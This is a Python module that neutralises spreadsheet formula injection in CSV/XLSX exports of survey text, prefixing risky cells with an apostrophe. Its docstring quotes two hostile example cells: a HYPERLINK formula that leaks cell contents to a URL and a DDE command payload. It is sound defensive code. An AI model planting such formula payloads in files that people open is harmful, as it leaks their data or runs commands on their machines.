"""Text cells safe to open in a spreadsheet: the OWASP rule against formula ("CSV") injection.

Quarantined rows are respondents' raw text, and an official opens them in Excel: a cell such as
`=HYPERLINK("http://…"&A1,"klik")` or `=cmd|' /C calc'!A0` would run there as a formula. Every text cell
(and column name) written to CSV or XLSX that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
gets a leading apostrophe, which makes a spreadsheet show it as text. Numbers stay numbers: numeric
columns are untouched, and so is a text cell that is a plain number ("-1", "+2,5", "-3e2"), which a
spreadsheet reads as that number and nothing else. Every other cell is written unchanged.
"""

from __future__ import annotations

import re

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# A number as a spreadsheet reads it: sign, digits with one decimal point or comma, optional exponent.
_PLAIN_NUMBER = r"[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?"


_PLAIN_NUMBER_RE = re.compile(_PLAIN_NUMBER)


def neutralise(text: str) -> str:
    """One text cell made safe (see the module doc)."""
    if text.startswith(TRIGGERS) and _PLAIN_NUMBER_RE.fullmatch(text) is None:
        return QUOTE + text
    return text


def _neutralise_strings(values: pd.Series) -> pd.Series:
    """A column of text (missing cells allowed), vectorised."""
    text = values.astype("str")
    starts = text.str.startswith(TRIGGERS, na=False)
    if not starts.any():
        return values
    risky = starts & ~text.str.fullmatch(_PLAIN_NUMBER, na=False)
    return text.mask(risky, QUOTE + text)


def neutralise_column(values: pd.Series) -> pd.Series:
    """A column made safe: text cells neutralised, numbers, booleans and dates untouched."""
    if pd.api.types.is_string_dtype(values.dtype) and values.dtype != object:
        return _neutralise_strings(values)
    if values.dtype != object:
        return values
    kind = pd.api.types.infer_dtype(values, skipna=True)
    if kind == "string":
        return _neutralise_strings(values)
    if kind in ("mixed", "mixed-integer"):
        return values.map(lambda value: neutralise(value) if isinstance(value, str) else value)
    return values


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` safe to write to CSV or XLSX, column names included; rows otherwise unchanged."""
    safe = pd.DataFrame({position: neutralise_column(frame.iloc[:, position]) for position in range(frame.shape[1])})
    safe.columns = [neutralise(str(name)) for name in frame.columns]
    safe.index = frame.index
    return safe
